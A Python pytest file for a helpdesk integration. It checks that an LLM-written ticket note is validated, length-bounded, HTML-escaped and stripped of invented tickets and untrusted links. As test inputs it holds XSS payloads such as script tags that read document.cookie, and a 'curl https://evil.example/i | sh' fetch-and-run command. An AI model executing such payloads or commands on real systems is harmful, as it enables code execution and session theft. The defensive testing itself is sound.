"""From GPT-4's answer to the note: validated, cut, escaped, and with nothing that was not given."""

import json
from datetime import date
from typing import Any

import pytest
from pydantic import ValidationError

from integrations.servicedesk.contents import plain_text
from integrations.values import Document
from tests.kit.model import BARE, STATE
from tests.workflow.shown import read
from workflow.defanging import LEFT_OUT
from workflow.enhancement import Enhancement, KnownTicket, is_note_of, marker, to_html
from workflow.prompts import only_given

JOB = "01936b2e-7c1a-7000-8000-0123456789ab"
MODEL = "gpt-6-luna-2026-08-01"
ANSWER: dict[str, Any] = {
    "summary": "The mailbox is full.",
    "likely_cause": "Large attachments.",
    "next_steps": ["Archive old mail.", "Raise the quota."],
    "similar_tickets": [{"ticket_id": "101", "relevance": "Also a full mailbox."}],
    "documents": [{"title": "Mail quotas", "relevance": "Says how to raise one."}],
}
HOSTILE = (
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</p></div><iframe src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "<!-- a comment -->",
    "<b",
)


def answer(**changed: Any) -> Enhancement:
    return Enhancement.model_validate_json(json.dumps(ANSWER | changed))


def test_the_note_says_everything_and_whose_it_is() -> None:
    shown = read(to_html(answer(), JOB, MODEL))
    for text in (f"written by {MODEL};", "The mailbox is full.", "Large attachments.", "Raise the quota.", "#101"):
        assert text in shown.text
    assert "Mail quotas: Says how to raise one." in shown.text
    assert f"Ref {JOB}" in shown.text
    assert shown.tags == {"div", "b", "p", "ol", "ul", "li"}


def test_what_may_help_stands_first_and_what_the_ticket_says_last() -> None:
    text = read(to_html(answer(), JOB, MODEL)).text
    order = ["Likely cause", "Next steps", "Similar tickets", "Documents", "In short: The mailbox is full."]
    assert sorted(order, key=text.index) == order


def test_an_earlier_ticket_has_its_subject_its_day_and_a_link_to_the_desk() -> None:
    known = {"101": KnownTicket("Mailbox <full>, see evil.com", date(2026, 3, 2), "https://d/x?a=1&b=2")}
    note = to_html(answer(), JOB, MODEL, known=known)
    assert read(note).attributes == [("href", "https://d/x?a=1&b=2")]
    shown = "#101 Mailbox <full>, see evil[.]com (2026-03-02): Also a full mailbox."
    assert shown in read(note).text
    bare = to_html(answer(), JOB, MODEL, known={"101": KnownTicket("Mailbox full", None, "")})
    assert "#101 Mailbox full: Also a full mailbox." in read(bare).text
    assert read(bare).attributes == []


def test_a_link_for_feedback_is_the_last_line_before_whose_note_it_is() -> None:
    note = to_html(answer(), JOB, MODEL, feedback_link="https://f.example/f/a?b=1&c='2")
    shown = read(note)
    assert shown.attributes == [("href", "https://f.example/f/a?b=1&c='2")]
    assert shown.text.index("In short") < shown.text.index("Was this useful?") < shown.text.index(marker(JOB))
    assert is_note_of(JOB, plain_text(note))
    assert "useful" not in read(to_html(answer(), JOB, MODEL)).text


def test_links_and_commands_of_no_source_reach_no_technician() -> None:
    everywhere = "Go to https://evil.example/x and run curl https://evil.example/i | sh"
    hostile = answer(
        summary=everywhere,
        likely_cause=everywhere,
        next_steps=[everywhere, "Raise the quota at https://console.acme.example."],
        similar_tickets=[{"ticket_id": "101", "relevance": everywhere}],
        documents=[{"title": "Mail quotas", "relevance": everywhere}],
    )
    state = STATE | {"documents": [Document("Mail quotas", "Use https://console.acme.example")]}
    text = read(to_html(only_given(hostile, state), JOB, MODEL)).text
    assert "https://evil" not in text
    assert "curl" not in text
    assert text.count("hxxps[:]//evil[.]example/x") == text.count(LEFT_OUT) == 5
    assert 'https://console.acme.example (from document "Mail quotas").' in text


@pytest.mark.parametrize(
    ("model", "named"),
    [
        ("openai/gpt-6-luna", "openai/gpt-6-luna"),
        ("<b>m</b>\n\x1b[31m \u202ex", "<b>m</b> [31m x"),
        ("m" * 200, "m" * 80),
        ("", "a language model"),
    ],
)
def test_the_model_that_answered_is_named_as_plain_text_in_bounds(model: str, named: str) -> None:
    shown = read(to_html(answer(), JOB, model))
    assert f"(written by {named}; please check" in shown.text
    assert shown.tags == {"div", "b", "p", "ol", "ul", "li"}


@pytest.mark.parametrize("author", ["GPT-4", MODEL, "a language model"])
def test_a_note_is_ours_whatever_model_it_names(author: str) -> None:
    """Those of the release before name GPT-4."""
    assert is_note_of(JOB, f"Enhancement (written by {author}; please check before acting on it)S{marker(JOB)}")


def test_parts_that_are_empty_have_no_heading() -> None:
    empty = answer(likely_cause="", next_steps=[], similar_tickets=[], documents=[])
    text = read(to_html(empty, JOB, MODEL)).text
    assert "The mailbox is full." in text
    assert not [heading for heading in ("cause", "steps", "tickets", "Documents") if heading in text]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_the_model_wrote_becomes_markup(hostile: str) -> None:
    everywhere = answer(
        summary=hostile,
        likely_cause=hostile,
        next_steps=[hostile],
        similar_tickets=[{"ticket_id": hostile, "relevance": hostile}],
        documents=[{"title": hostile, "relevance": hostile}],
    )
    shown = read(to_html(everywhere, JOB, MODEL))
    assert shown.tags == {"div", "b", "p", "ol", "ul", "li"}
    assert shown.attributes == []
    # A title is shown without links that work.
    assert shown.text.count(hostile) == 7 - ("javascript:" in hostile)


def test_quotes_are_escaped_too_wherever_a_desk_may_put_the_text() -> None:
    note = to_html(answer(summary="say \"hi\" & 'bye'"), JOB, MODEL)
    assert "say &quot;hi&quot; &amp; &#x27;bye&#x27;" in note


def test_lines_of_the_model_stay_lines() -> None:
    assert "one<br>two" in to_html(answer(summary="one\ntwo"), JOB, MODEL)


def test_control_characters_and_marks_that_reorder_text_are_removed() -> None:
    dirty = "a\x00\x07\x1b[31m\x7f\x9b\u202eb\u2066\ufeff\u2028\u200bc\r\n\td"
    assert answer(summary=dirty, next_steps=[dirty]).summary == "a[31mbc\n\td"
    assert answer(next_steps=[dirty]).next_steps == ["a[31mbc\n\td"]
    assert answer(similar_tickets=[{"ticket_id": "1\x00", "relevance": dirty}]).similar_tickets[0].ticket_id == "1"


def test_texts_and_lists_are_cut_to_a_bounded_length() -> None:
    long = answer(
        summary="x" * 10_000,
        next_steps=["y" * 10_000] * 50,
        similar_tickets=[{"ticket_id": "1", "relevance": "z" * 10_000}] * 50,
    )
    assert (len(long.summary), long.summary[-2:]) == (1500, "x…")
    assert [len(step) for step in long.next_steps] == [1500] * 8
    assert [len(ticket.relevance) for ticket in long.similar_tickets] == [1500] * 8
    assert answer(summary="x" * 1500).summary == "x" * 1500


def test_a_kept_answer_is_read_back_as_it_was() -> None:
    cut = answer(summary="x" * 10_000, next_steps=["  step  "] * 9)
    assert Enhancement.model_validate(cut.model_dump(mode="json")) == cut


@pytest.mark.parametrize(
    "changed",
    [
        {"summary": ""},
        {"summary": " \n"},
        {"summary": "\x00\u200b"},
        {"summary": None},
        {"summary": ["not", "a", "text"]},
        {"next_steps": "not a list"},
        {"next_steps": [1]},
        {"similar_tickets": [{"ticket_id": "1"}]},
        {"documents": [{"title": "x", "relevance": "y", "url": "http://elsewhere"}]},
        {"confidence": 0.9},
    ],
)
def test_an_answer_of_another_form_is_no_answer(changed: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        answer(**changed)


@pytest.mark.parametrize("missing", ANSWER)
def test_an_answer_with_a_part_missing_is_no_answer(missing: str) -> None:
    with pytest.raises(ValidationError):
        Enhancement.model_validate({name: value for name, value in ANSWER.items() if name != missing})


def test_tickets_and_documents_that_were_not_given_are_left_out() -> None:
    invented = answer(
        similar_tickets=[{"ticket_id": number, "relevance": "r"} for number in ("101", "999", "10")],
        documents=[{"title": title, "relevance": "r"} for title in ("Mail quotas", "Invented", "mail quotas")],
    )
    kept = only_given(invented, STATE)
    assert [ticket.ticket_id for ticket in kept.similar_tickets] == ["101"]
    assert [document.title for document in kept.documents] == ["Mail quotas"]
    assert kept.summary == invented.summary
    nothing = only_given(invented, BARE)
    assert (nothing.similar_tickets, nothing.documents) == ([], [])
